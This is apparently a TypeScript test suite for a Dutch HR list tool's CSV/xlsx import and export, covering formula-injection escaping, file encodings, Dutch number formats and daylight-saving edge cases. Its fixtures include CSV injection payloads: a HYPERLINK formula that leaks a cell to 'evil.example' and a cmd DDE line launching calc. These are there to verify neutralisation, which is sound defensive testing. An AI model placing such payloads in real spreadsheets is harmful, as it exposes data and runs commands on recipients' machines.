/**
 * The files HR really has, in and out (issue: exports became formulas in Excel, Windows-1252 files were stored as
 * U+FFFD, "2.000" was read as 2 and "0x10" as 16, non-existent and double local times were imported as some
 * other instant, 2027-02-31T10:00 became 3 March).
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import iconv from 'iconv-lite';
import { getListDefinition } from '@shared/lists/definitions';
import { CelFout, coerceCell, decodeerBestand, itemsToCsv, leesNederlandsGetal, parseCsvItems } from '@shared/lists/import-file';
import { herstelFormule, neutraliseerFormule } from '@shared/lists/formule-cel';
import { SqliteListStore } from '@shared/store/sqlite-list-store';
import { queryAll } from '@shared/store/list-store';
import { listsCli } from '../support/lists-cli';

let dir: string;
let db: string;
beforeEach(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ip-bestanden-'));
  db = path.join(dir, 'lijsten.db');
});
afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

const lists = (...argv: string[]) => listsCli(db)(...argv);
async function inStore<T>(fn: (s: SqliteListStore) => Promise<T>): Promise<T> {
  const s = new SqliteListStore(db);
  try {
    return await fn(s);
  } finally {
    await s.close();
  }
}

const SESSIE_KOP = 'sessieId;start;eind;soort;locatie;online;afnemer;capaciteit';

describe('CSV and xlsx exports neutralise formula triggers (OWASP CSV injection)', () => {
  const gevaarlijk = [
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(A1:A9)',
    "'=al een apostrof",
    "'gewoon citaat",
  ];
  const sessies = gevaarlijk.map((locatie, i) => ({
    sessieId: `S-${i}`,
    start: '2026-06-01T08:00:00.000Z',
    eind: '2026-06-01T09:00:00.000Z',
    soort: 'ambtseed',
    locatie,
    online: false,
    afnemer: i === 0 ? '@provinciesecretaris' : 'provinciesecretaris',
    capaciteit: 25,
  }));

  test('text cells that start with = + - @ get a leading quote; numbers stay numbers; import gives back the original text', async () => {
    await inStore((s) => s.addMany('AmbtseedSessies', sessies as never));
    const exp = await lists('export', '--list', 'AmbtseedSessies', '--format', 'csv');
    expect(exp.code).toBe(0);
    const rows = parseCsv<Record<string, string>>(exp.out.replace(/^\uFEFF/, ''), { delimiter: ';', columns: true });
    expect(rows.map((r) => r.locatie)).toEqual([
      `'=HYPERLINK("http://evil.example/?d="&A1,"klik")`,
      "'+cmd|' /C calc'!A0",
      "'-2+3",
      "'@SUM(A1:A9)",
      "''=al een apostrof",
      "'gewoon citaat",
    ]);
    expect(rows[0].afnemer).toBe("'@provinciesecretaris");
    // No cell the spreadsheet would read as a formula is left.
    for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows.map((r) => r.capaciteit)).toEqual(Array(6).fill('25'));

    fs.writeFileSync(path.join(dir, 'export.csv'), exp.out);
    db = path.join(dir, 'leeg.db');
    const imp = await lists('import', path.join(dir, 'export.csv'), '--list', 'AmbtseedSessies');
    expect(imp.err).toBe('');
    expect(imp.code).toBe(0);
    expect(await inStore((s) => queryAll(s, 'AmbtseedSessies'))).toEqual(sessies);
  });

  test('a tab or carriage return at the start of a note is neutralised and restored', () => {
    for (const tekst of ['\tstart met tab', '\rstart met CR']) {
      const csv = itemsToCsv('Dilemmas', [
        { dilemmaId: 'D-1', titel: 'Titel', tekst, opties: '["a","b"]', thema: 'zakelijk', bron: 'eigen' },
      ]);
      const cel = parseCsv<Record<string, string>>(csv.replace(/^\uFEFF/, ''), { delimiter: ';', columns: true })[0].tekst;
      expect(cel).toBe(`'${tekst}`);
      expect(herstelFormule(cel)).toBe(tekst);
    }
  });

  test('the escape is reversible for every text', () => {
    for (const s of ['=1+1', "'=1+1", "''=1+1", "'hallo", 'hallo', '-', "'", '', '@', "'@"])
      expect(herstelFormule(neutraliseerFormule(s))).toBe(s);
  });

  test('a negative number in a number column is written as a number, without a quote', () => {
    const csv = itemsToCsv('DilemmaStemmen', [{ stemId: 'x', dilemmaId: 'D-1', week: '2026-W10', optie: -1 }]);
    expect(csv).toContain(';-1\r\n');
  });
});

describe('encoding: a file that is not UTF-8 is read as Windows-1252, with a notice; U+FFFD is never stored', () => {
  const rij = 'S-1;2026-06-01 10:00;2026-06-01 11:00;ambtseed;Café É-zaal;nee;Gedeputeerde René;20';

  test('Excel\'s "CSV (gescheiden door lijstscheidingsteken)" (Windows-1252) imports with the right letters and a notice', async () => {
    const bestand = path.join(dir, 'sessies.csv');
    fs.writeFileSync(bestand, iconv.encode(`${SESSIE_KOP}\r\n${rij}\r\n`, 'win1252'));
    // The bytes are really not UTF-8 (é = 0xE9).
    expect(fs.readFileSync(bestand).includes(0xe9)).toBe(true);
    const r = await lists('import', bestand, '--list', 'AmbtseedSessies');
    expect(r.code).toBe(0);
    expect(r.err).toMatch(/sessies\.csv is geen geldige UTF-8 en is gelezen als Windows-1252/);
    const [s] = await inStore((st) => queryAll(st, 'AmbtseedSessies'));
    expect(s.locatie).toBe('Café É-zaal');
    expect(s.afnemer).toBe('Gedeputeerde René');
  });

  test('the same file saved as UTF-8 imports without a notice', async () => {
    const bestand = path.join(dir, 'sessies.csv');
    fs.writeFileSync(bestand, `\uFEFF${SESSIE_KOP}\n${rij}\n`);
    const r = await lists('import', bestand, '--list', 'AmbtseedSessies');
    expect(r).toMatchObject({ code: 0, err: '' });
  });

  test('a file already damaged (U+FFFD in the text) is refused with the row and column, and nothing is stored', async () => {
    const bestand = path.join(dir, 'sessies.csv');
    fs.writeFileSync(
      bestand,
      `${SESSIE_KOP}\nS-1;2026-06-01 10:00;2026-06-01 11:00;ambtseed;Caf\uFFFD \uFFFD-zaal;nee;Gedeputeerde Ren\uFFFD;20\n`,
    );
    const r = await lists('import', bestand, '--list', 'AmbtseedSessies');
    expect(r.code).toBe(1);
    expect(r.err).toMatch(/regel 2, kolom locatie: bevat het teken � \(U\+FFFD\)/);
    expect(r.err).toMatch(/regel 2, kolom afnemer: bevat het teken �/);
    expect(await inStore((s) => queryAll(s, 'AmbtseedSessies'))).toEqual([]);
  });

  test('a byte that Windows-1252 does not define (0x81) is not stored silently either', () => {
    const bytes = Buffer.concat([
      Buffer.from(`${SESSIE_KOP}\nS-1;2026-06-01 10:00;2026-06-01 11:00;ambtseed;zaal `),
      Buffer.from([0x81]),
      Buffer.from(';nee;secretaris;20\n'),
    ]);
    const d = decodeerBestand(bytes, 'x.csv');
    expect(d.codering).toBe('windows-1252');
    const r = parseCsvItems('AmbtseedSessies', d.tekst);
    expect(r.ok).toBe(false);
    expect(!r.ok && r.problems.map((p) => `${p.line}:${p.column}`)).toEqual(['2:locatie']);
  });

  test('UTF-16 with a byte order mark (Excel "Unicode-tekst") is read as UTF-16', () => {
    const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Café', 'utf16le')]);
    expect(decodeerBestand(bytes)).toEqual({ tekst: 'Café', codering: 'utf-16' });
  });
});

describe('numbers as Dutch Excel writes them', () => {
  const capaciteit = getListDefinition('AmbtseedSessies').columns.find((c) => c.name === 'capaciteit')!;

  test('2.000 is 2000 and 1.234,56 is 1234.56', () => {
    expect(coerceCell(capaciteit, '2.000')).toBe(2000);
    expect(coerceCell(capaciteit, '1.234.567')).toBe(1234567);
    expect(leesNederlandsGetal('1.234,56')).toBe(1234.56);
    expect(leesNederlandsGetal('12,5')).toBe(12.5);
    expect(leesNederlandsGetal('-3')).toBe(-3);
    expect(leesNederlandsGetal('2\u00A0000')).toBe(2000);
  });

  test('hex, exponent and ambiguous forms are refused with their own message', () => {
    expect((leesNederlandsGetal('0x10') as CelFout).message).toMatch(/hexadecimaal/);
    expect((leesNederlandsGetal('1e3') as CelFout).message).toMatch(/exponent/);
    expect((leesNederlandsGetal('2E+3') as CelFout).message).toMatch(/exponent/);
    for (const v of ['12.5', '1,234.56', '1.2345', '1.23', 'Infinity', '1..0']) expect(leesNederlandsGetal(v)).toBeInstanceOf(CelFout);
  });

  test('a CSV with such numbers imports nothing and names each line and column', async () => {
    const rows = [
      'S-1;2026-06-01 10:00;2026-06-01 11:00;ambtseed;zaal;nee;secretaris;2.000',
      'S-2;2026-06-02 10:00;2026-06-02 11:00;ambtseed;zaal;nee;secretaris;0x10',
      'S-3;2026-06-03 10:00;2026-06-03 11:00;ambtseed;zaal;nee;secretaris;1e3',
      'S-4;2026-06-04 10:00;2026-06-04 11:00;ambtseed;zaal;nee;secretaris;12.5',
    ];
    const bestand = path.join(dir, 'sessies.csv');
    fs.writeFileSync(bestand, `${SESSIE_KOP}\n${rows.join('\n')}\n`);
    const r = await lists('import', bestand, '--list', 'AmbtseedSessies');
    expect(r.code).toBe(1);
    expect(r.err).toMatch(/regel 3, kolom capaciteit: "0x10" is een hexadecimaal getal/);
    expect(r.err).toMatch(/regel 4, kolom capaciteit: "1e3" is een getal met exponent/);
    expect(r.err).toMatch(/regel 5, kolom capaciteit: "12\.5" is geen eenduidig getal/);
    expect(r.err).not.toMatch(/regel 2/);
    expect(await inStore((s) => queryAll(s, 'AmbtseedSessies'))).toEqual([]);
    // Fixed file: 2.000 is stored as 2000.
    fs.writeFileSync(bestand, `${SESSIE_KOP}\n${rows[0]}\n`);
    expect((await lists('import', bestand, '--list', 'AmbtseedSessies')).code).toBe(0);
    expect((await inStore((s) => queryAll(s, 'AmbtseedSessies')))[0].capaciteit).toBe(2000);
  });
});

describe('import: Europe/Amsterdam wall times through the one date module', () => {
  const regel = (id: string, start: string, eind: string) => `${id};${start};${eind};ambtseed;zaal;nee;secretaris;20`;
  async function importeer(...rows: string[]) {
    const bestand = path.join(dir, 'sessies.csv');
    fs.writeFileSync(bestand, `${SESSIE_KOP}\n${rows.join('\n')}\n`);
    return lists('import', bestand, '--list', 'AmbtseedSessies');
  }

  test('a time in the hour skipped on the last Sunday of March is refused, naming the switch', async () => {
    const r = await importeer(regel('S-1', '2026-03-29 02:30', '2026-03-29 03:30'));
    expect(r.code).toBe(1);
    expect(r.err).toContain(
      'regel 2, kolom start: 2026-03-29 02:30 bestaat niet in Nederland: op zondag 29 maart 2026 begint de zomertijd en gaat de klok om 02:00 een uur vooruit naar 03:00',
    );
    expect(r.err).not.toMatch(/kolom eind/);
  });

  test('a time that happens twice on the last Sunday of October is refused unless the offset is given', async () => {
    const r = await importeer(regel('S-1', '25-10-2026 02:30', '25-10-2026 03:30'));
    expect(r.code).toBe(1);
    expect(r.err).toMatch(/regel 2, kolom start: 2026-10-25 02:30 komt op zondag 25 oktober 2026 twee keer voor/);
    expect(r.err).toContain('2026-10-25T02:30+02:00 (zomertijd, de eerste keer) of 2026-10-25T02:30+01:00 (wintertijd, de tweede keer)');
    const ok = await importeer(regel('S-1', '2026-10-25T02:30+02:00', '2026-10-25T02:30+01:00'));
    expect(ok.code).toBe(0);
    const [s] = await inStore((st) => queryAll(st, 'AmbtseedSessies'));
    expect([s.start, s.eind]).toEqual(['2026-10-25T00:30:00.000Z', '2026-10-25T01:30:00.000Z']);
  });

  test('31 February is refused with its own message, in a local time, an ISO time with offset and a date column', async () => {
    const r = await importeer(regel('S-1', '2027-02-31T10:00', '2027-02-31T11:00+01:00'));
    expect(r.code).toBe(1);
    expect(r.err).toContain('regel 2, kolom start: 2027-02-31 bestaat niet: februari 2027 heeft 28 dagen.');
    expect(r.err).toContain('regel 2, kolom eind: 2027-02-31 bestaat niet: februari 2027 heeft 28 dagen.');
    const nm = parseCsvItems('NieuweMedewerkers', 'medewerkerId;indienstOp;dienstverband\nmw-1;31-02-2027;extern\n');
    expect(!nm.ok && nm.problems).toEqual([
      { line: 2, column: 'indienstOp', message: '2027-02-31 bestaat niet: februari 2027 heeft 28 dagen.' },
    ]);
  });

  test('ordinary times either side of both switches import as the right instant', async () => {
    const r = await importeer(regel('S-1', '2026-03-29 01:59', '2026-03-29 03:00'), regel('S-2', '2026-10-25 01:59', '2026-10-25 03:00'));
    expect(r.code).toBe(0);
    const s = await inStore((st) => queryAll(st, 'AmbtseedSessies'));
    expect(s.map((x) => [x.start, x.eind])).toEqual([
      ['2026-03-29T00:59:00.000Z', '2026-03-29T01:00:00.000Z'],
      ['2026-10-24T23:59:00.000Z', '2026-10-25T02:00:00.000Z'],
    ]);
  });
});
